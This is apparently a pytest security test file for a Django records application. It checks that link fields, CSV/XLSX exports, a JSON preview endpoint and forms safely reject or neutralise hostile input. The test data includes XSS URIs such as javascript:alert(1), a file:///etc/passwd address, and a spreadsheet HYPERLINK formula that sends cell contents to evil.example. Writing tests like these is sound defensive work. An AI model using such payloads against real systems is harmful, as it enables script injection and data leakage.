"""What no honest client sends: none of it is a server error, none of it gets in."""

# ruff: noqa: E501  (an attack is not broken into lines)
from __future__ import annotations

import io
from urllib.parse import quote

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.db import IntegrityError, transaction
from django.test import Client

from alliance.record.models import Source
from tests.record.cast import Cast

PREVIEW = "/api/v1/friction/preview/"


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
     "vbscript:x", "file:///etc/passwd", "//evil.example/", "ftp://example.org/"],
)  # fmt: skip
def test_only_web_addresses_become_links(cast: Cast, editor: User, desk: Client, address: str) -> None:
    desk.force_login(editor)
    desk.post("/admin/record/source/add/", {"url": address, "title": "T", "publisher": "P"})
    assert Source.objects.count() == 1
    for field in ("url", "archived_url"):
        row = Source(**{"url": "https://example.org/2", "title": "T", "publisher": "P", field: address})
        with pytest.raises(IntegrityError), transaction.atomic():
            Source.objects.bulk_create([row])  # no form has looked at it


def test_a_spreadsheet_runs_nothing(cast: Cast, admin_user: User, client: Client) -> None:
    Source.objects.update(title='=HYPERLINK("https://evil.example/?"&A1,"Open")', publisher="+1-2", archived_url="")
    client.force_login(admin_user)
    said = b"".join(client.get("/admin/record/source/export/csv/").streaming_content).decode()
    assert "'=HYPERLINK" in said
    assert "'+1-2" in said
    book = b"".join(client.get("/admin/record/source/export/xlsx/").streaming_content)
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(book)).active.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)


@pytest.mark.parametrize(
    "body",
    [b"[" * 100_000, b"{" * 100_000, b'{"statements":' + b"[" * 100_000, b"\x00", b'{"statements": "\xff"}', b"1" * 10_000,
     b'{"statements": [{"actor": "\\ud800"}]}', b'{"statements": [{"stance": 1e400}]}', b'{"statements": [NaN]}',
     b'{"statements": [{"date": "0000-00-00", "stance": 1' + b"0" * 30 + b"}]}", b""],
)  # fmt: skip
def test_a_posted_body_whatever_it_is(cast: Cast, desk: Client, body: bytes) -> None:
    answer = desk.post(PREVIEW, body, content_type="application/json")
    assert answer.status_code == 400
    assert answer.json()["errors"]


@pytest.mark.parametrize(
    "address",
    ["/?at=0001-01-01", "/?at=9999-12-31", "/?known=0001-01-01", "/?at=%00", "/?at=%ED%A0%80", "/statements/" + "9" * 30 + "/",
     "/statements/?q=%00", "/statements/?actor=%00", "/statements/?page=" + "9" * 30, "/actors/%00/", "/issues/%ED%A0%80/",
     "/search/?q=%00", "/search/?q=" + "%F0%9F%92%A9" * 400, "/compare/?a=%00", "/dyads/%00/KR/",
     "/embed/alliances/us-rok/matrix/?revision=" + "9" * 30, "/alliances/us-rok/?from=9999-12-31&to=0001-01-01",
     "/login/?next=%00", "/second-factor/?next=%00", "/tokens/%00/revoke/", "/admin/login/?next=%ED%A0%80"],
)  # fmt: skip
def test_an_address_whatever_it_is(cast: Cast, desk: Client, address: str) -> None:
    assert desk.get(address).status_code < 500


@pytest.mark.parametrize(
    "value", ["\x00", "9" * 30, "-1", "1e400", "NaN", "0001-01-01", "9999-12-31", "x" * 200_000, "\ud800"]
)
def test_a_form_whatever_is_typed(cast: Cast, desk: Client, editor: User, value: str) -> None:
    desk.force_login(editor)
    names = ("actor", "issue", "source", "date", "stance", "salience", "half_width", "reliability", "summary", "quote",
             "locator", "seen", "new_source_url")  # fmt: skip
    raw = quote(value.encode("utf-8", "surrogatepass"))
    body = "&".join(f"{name}={raw}" for name in (*names, "url", "name", "username", "password", "code"))
    for address in ("/admin/record/statement/add/", "/admin/record/source/add/", "/tokens/", "/login/"):
        answer = desk.post(address, body, content_type="application/x-www-form-urlencoded")
        assert answer.status_code < 500, address
